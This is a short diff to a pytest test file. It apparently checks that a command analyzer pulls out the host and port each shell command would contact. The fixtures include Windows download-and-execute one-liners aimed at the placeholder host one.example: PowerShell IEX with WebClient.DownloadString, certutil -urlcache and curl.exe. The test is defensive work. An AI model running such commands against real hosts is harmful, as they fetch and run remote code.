@@ -118,7 +118,7 @@ def test_files(command, shell, file):
         ("curl.exe -o a.zip https://one.example/a.zip", CMD, "one.example", "443"),
         ("certutil -urlcache -split -f http://one.example:8080/a a", CMD, "one.example", "8080"),
         ("IEX (New-Object Net.WebClient).DownloadString('https://one.example/x')", PS, "one.example", "443"),
-        ("powershell \"IEX (New-Object Net.WebClient).DownloadString('http://one.example/x')\"", CMD, "one.example", "80"),
+        ("powershell \"(New-Object Net.WebClient).DownloadString('http://one.example/')\"", CMD, "one.example", "80"),
     ],
 )  # fmt: skip
 def test_servers_are_looked_up_and_called(command, shell, name, port):
